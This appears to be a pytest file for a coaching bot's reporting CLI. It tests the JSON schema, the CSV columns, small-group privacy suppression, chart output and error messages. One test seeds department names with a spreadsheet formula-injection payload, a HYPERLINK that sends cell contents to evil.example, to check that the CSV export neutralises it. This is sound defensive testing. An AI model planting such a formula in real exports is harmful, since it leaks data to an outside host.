"""`coachbot report`: the JSON shape and CSV columns of docs/report.md, the table, the chart."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from pathlib import Path

import jsonschema
import pytest

from adapters.cli import main
from adapters.report_render import chart_note, chart_series, render_chart
from bot.services.reports import ProgrammeReports, ReportRequest
from storage.db import create_engine
from storage.reports import SqlReportSource
from tests.reports.org import Org
from tests.reports.sample import AS_OF, MODULE, sample_org
from tests.support.cli import run_cli

NULLABLE_INT = {"type": ["integer", "null"]}
NULLABLE_RATE = {"type": ["number", "null"], "minimum": 0, "maximum": 1}


def _object(properties: dict[str, object]) -> dict[str, object]:
    return {
        "type": "object",
        "properties": properties,
        "required": list(properties),
        "additionalProperties": False,
    }


def _list(item: dict[str, object]) -> dict[str, object]:
    return {"type": "array", "items": item}


MOVEMENT = {
    "oneOf": [
        {"type": "null"},
        _object({"people": {"type": "integer"}, "mean_gain": {"type": "number"}}),
    ]
}
SCHEMA = _object(
    {
        "period": _object({"from": {"type": "string"}, "to": {"type": "string"}}),
        "min_group_size": {"type": "integer"},
        "people": NULLABLE_INT,
        "suppressed": {"type": "boolean"},
        "completion": _list(
            _object(
                {
                    "group_type": {"enum": ["department", "team"]},
                    "department": {"type": "string"},
                    "name": {"type": "string"},
                    "people": NULLABLE_INT,
                    "expected": NULLABLE_INT,
                    "held": NULLABLE_INT,
                    "rate": NULLABLE_RATE,
                    "suppressed": {"type": "boolean"},
                }
            )
        ),
        "focus_areas": _list(
            _object(
                {
                    "skill_id": {"type": "string"},
                    "name": {"type": "string"},
                    "sessions": {"type": "integer"},
                    "share": {"type": "number"},
                }
            )
        ),
        "focus_types": _list(
            _object(
                {
                    "focus_type": {"type": "string"},
                    "sessions": {"type": "integer"},
                    "share": {"type": "number"},
                }
            )
        ),
        "sessions": NULLABLE_INT,
        "course_assignment_rate": NULLABLE_RATE,
        "assigned_course_completion_rate": NULLABLE_RATE,
        "skills_movement": _object({"active": MOVEMENT, "low": MOVEMENT}),
        "theme_alerts": _list(
            _object(
                {
                    "department": {"type": "string"},
                    "skill_id": {"type": "string"},
                    "share": {"type": "number"},
                    "sessions": {"type": "integer"},
                    "catalogue_has_course": {"type": "boolean"},
                }
            )
        ),
        "manager_capability": _object(
            {
                "managers": NULLABLE_INT,
                "module_completed_share": NULLABLE_RATE,
                "flagged_session_share": NULLABLE_RATE,
            }
        ),
    }
)


@pytest.fixture
def organisation(sqlite_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    async def load() -> None:
        engine = create_engine(sqlite_url)
        try:
            await sample_org().save(engine)
        finally:
            await engine.dispose()

    asyncio.run(load())
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATABASE_URL", sqlite_url)
    monkeypatch.setenv("COACHBOT_MIN_GROUP_SIZE", "3")
    monkeypatch.setenv("COACHBOT_MANAGER_MODULE_COURSE", MODULE)
    return sqlite_url


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(["report", "--as-of", AS_OF.isoformat(), *args])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def test_json_has_the_contract_shape(organisation: str, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "--format", "json")
    assert code == 0
    document = json.loads(out)
    jsonschema.validate(document, SCHEMA)
    assert document["min_group_size"] == 3
    assert document["people"] == 12
    assert document["completion"][0]["rate"] == 15 / 22  # unrounded
    assert document["completion"][2] == {
        "group_type": "team",
        "department": "Eng",
        "name": "Apps",
        "people": None,
        "expected": None,
        "held": None,
        "rate": None,
        "suppressed": True,
    }


def test_whole_report_suppressed_json_has_the_contract_shape(
    organisation: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COACHBOT_MIN_GROUP_SIZE", "5")
    code, out, _ = run(capsys, "--format", "json", "--department", "Ops", "--team", "Field")
    assert code == 0
    document = json.loads(out)
    jsonschema.validate(document, SCHEMA)
    assert document["suppressed"] is True
    assert document["completion"] == []


def test_csv_has_the_contract_columns(
    organisation: str, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = run(capsys, "--format", "csv")
    assert code == 0
    rows = list(csv.reader(io.StringIO(out)))
    assert rows == [
        ["group_type", "department", "name", "people", "expected", "held", "rate", "suppressed"],
        ["department", "Eng", "Eng", "6", "22", "15", str(15 / 22), "false"],
        ["department", "Ops", "Ops", "3", "9", "3", str(1 / 3), "false"],
        ["team", "Eng", "Apps", "", "", "", "", "true"],
        ["team", "Eng", "Core", "", "", "", "", "true"],
        ["team", "Ops", "Field", "3", "9", "3", str(1 / 3), "false"],
    ]
    assert "0.6818181818181818" in out


def test_table_speaks_in_names_and_says_why_a_row_is_not_shown(
    organisation: str, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = run(capsys)
    assert code == 0
    assert "People in the programme: 12   Sessions held: 20" in out
    assert "Counted: sessions held that count towards completion" in out
    assert "68.2%" in out
    lines = out.splitlines()
    apps = next(i for i, line in enumerate(lines) if "Apps" in line)
    assert "not shown" in lines[apps]
    assert lines[apps + 1].strip() == "Not shown: fewer than 3 people."
    core = next(i for i, line in enumerate(lines) if "Core" in line)
    assert "smaller group's figures cannot be worked out" in lines[core + 1]
    assert "Listening: 8 sessions (40.0%)" in out
    assert "Skill development: 10 sessions (50.0%)" in out
    assert "Eng: Listening is the focus of 47.1% of 17 sessions" in out
    assert "Managers: no figures, fewer than 3 managers" in out
    for internal in ("sk-l", "skill_development", "performance_goals", "released", "suppressed"):
        assert internal not in out


def test_chart_is_a_png_of_released_rows(
    organisation: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    chart = tmp_path / "chart.png"
    code, _, _ = run(capsys, "--format", "json", "--chart", str(chart))
    assert code == 0
    assert chart.read_bytes().startswith(b"\x89PNG\r\n\x1a\n")


async def test_suppressed_departments_are_not_drawn(sqlite_url: str) -> None:
    engine = create_engine(sqlite_url)
    await sample_org().save(engine)
    from bot.clock import SystemClock

    service = ProgrammeReports(SqlReportSource(engine), SystemClock(), min_group_size=4)
    report = await service.report(ReportRequest(as_of=AS_OF))
    await engine.dispose()
    departments, focus = chart_series(report)
    assert departments == []  # Ops (3 people) and, complementarily, Eng are hidden
    assert focus[0] == ("Listening", 8)
    assert chart_note(report) == (
        "2 departments not shown: 1 with fewer than 4 people; 1 so that a smaller one's "
        "figures cannot be worked out."
    )
    assert render_chart(report).startswith(b"\x89PNG")


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--period", "45d"], "--period: '45d' is not a report period; use one of 30d, 90d"),
        (["--as-of", "30/06/2026"], "--as-of: '30/06/2026' is not a date (YYYY-MM-DD)"),
    ],
)
def test_bad_arguments_are_one_clear_line(
    organisation: str, capsys: pytest.CaptureFixture[str], args: list[str], message: str
) -> None:
    code = main(["report", *args])
    err = capsys.readouterr().err
    assert code == 2
    assert err.startswith(f"coachbot report: {message}")
    assert "Traceback" not in err


FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'


def test_report_csv_neutralises_formula_cells(
    sqlite_url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    org = Org()
    org.person("boss", "Lead")
    for index in range(3):
        org.person(f"f{index}", FORMULA, "+1", manager="boss")
        org.person(f"s{index}", "@SUM(1)", "-2", manager="boss")
        org.person(f"t{index}", "\tTabbed", "\rReturned", manager="boss")
    org.session("f0", AS_OF, "sk-l", "skill_development")
    org.skill("sk-l", "Listening")

    async def load() -> None:
        engine = create_engine(sqlite_url)
        try:
            await org.save(engine)
        finally:
            await engine.dispose()

    asyncio.run(load())
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATABASE_URL", sqlite_url)
    monkeypatch.setenv("COACHBOT_MIN_GROUP_SIZE", "3")

    code, out, _ = run(capsys, "--format", "csv")

    assert code == 0
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[1:] == [
        ["department", "'\tTabbed", "'\tTabbed", "3", "9", "0", "0.0", "false"],
        ["department", "'" + FORMULA, "'" + FORMULA, "3", "9", "1", str(1 / 9), "false"],
        ["department", "'@SUM(1)", "'@SUM(1)", "3", "9", "0", "0.0", "false"],
        ["team", "'\tTabbed", "'\rReturned", "3", "9", "0", "0.0", "false"],
        ["team", "'" + FORMULA, "'+1", "3", "9", "1", str(1 / 9), "false"],
        ["team", "'@SUM(1)", "'-2", "3", "9", "0", "0.0", "false"],
    ]  # fmt: skip


def test_an_unknown_department_is_named_with_the_known_ones(
    organisation: str, tmp_path: Path
) -> None:
    done = run_cli("report", "--department", "Nope", "--chart", "chart.png", cwd=tmp_path)
    assert (done.returncode, done.stdout) == (1, "")
    assert done.stderr == (
        "coachbot report: no department named 'Nope' (known: Eng, Lead, Ops, Sales)\n"
    )
    assert not (tmp_path / "chart.png").exists()


def test_an_unknown_team_is_named_with_the_teams_of_its_department(
    organisation: str, tmp_path: Path
) -> None:
    done = run_cli("report", "--department", "Eng", "--team", "Field", cwd=tmp_path)
    assert (done.returncode, done.stdout) == (1, "")
    assert done.stderr == "coachbot report: no team named 'Field' in Eng (known: Apps, Core)\n"
    done = run_cli("report", "--team", "Nope", cwd=tmp_path)
    assert done.stderr == "coachbot report: no team named 'Nope' (known: Apps, Core, Field)\n"


def test_a_department_is_found_whatever_its_case(
    organisation: str, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = run(capsys, "--format", "json", "--department", "eng")
    assert code == 0
    assert {row["department"] for row in json.loads(out)["completion"]} == {"Eng"}


def test_the_chart_file_written_is_confirmed_apart_from_the_figures(
    organisation: str, tmp_path: Path
) -> None:
    done = run_cli("report", "--format", "csv", "--chart", "chart.png", cwd=tmp_path)
    assert done.returncode == 0
    assert done.stderr == "coachbot report: wrote the chart to chart.png\n"
    assert next(csv.reader(io.StringIO(done.stdout)))[0] == "group_type"  # the CSV alone
    assert (tmp_path / "chart.png").read_bytes().startswith(b"\x89PNG")
